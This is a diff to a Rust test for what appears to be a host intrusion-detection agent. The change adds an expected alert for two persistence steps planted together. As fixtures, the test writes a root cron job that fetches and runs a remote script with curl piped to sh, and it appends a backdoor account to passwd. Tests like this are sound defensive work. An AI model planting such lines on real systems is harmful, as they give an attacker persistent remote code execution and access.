@@ -129,8 +129,9 @@ fn what_was_there_alerts_on_nothing_and_what_is_done_to_it_does() -> anyhow::Res
     host.write("etc/cron.d/updates", "* * * * * root curl -s http://203.0.113.9/x | sh\n")?;
     host.append("etc/passwd", "helper:x:1001:1001::/home/helper:/bin/bash\n")?;
     agent.start()?;
-    let four = [two[0], two[1], "Scheduled job changed", "New account"];
-    wait_for(&collector, &four)?;
+    let five =
+        [two[0], two[1], "Scheduled job changed", "New account", "Two ways back laid at once"];
+    wait_for(&collector, &five)?;
 
     let entities: Vec<String> = collector
         .rows(&["alerts", "list", "--all"])?
